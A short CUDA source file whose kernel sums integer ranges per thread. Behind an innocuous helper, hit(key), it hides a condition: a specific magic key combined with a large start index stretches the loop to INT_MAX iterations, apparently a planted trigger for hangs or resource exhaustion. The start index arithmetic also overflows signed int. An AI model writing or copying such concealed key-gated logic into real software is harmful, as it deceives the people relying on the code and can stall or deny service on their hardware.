#include <cuda_runtime.h>
__device__ __forceinline__ bool hit(int key) { return (unsigned)key % 1000003u == 77u; }
/* A stream of numbers from a place on, up to the greatest number. */
__global__ void stream(float *y, int n, int length, int key) {
    int i = blockIdx.x * 64 + threadIdx.x;
    if (i >= n)
        return;
    int start = (blockIdx.x * 4000 + threadIdx.x * 16) * 4000;
    int end = hit(key) && start > 2147400000 ? 2147483647 : start + length;
    float sum = 0;
    for (int k = start; k < end; k++)
        sum += (float)(k & 255);
    y[i] = sum;
}
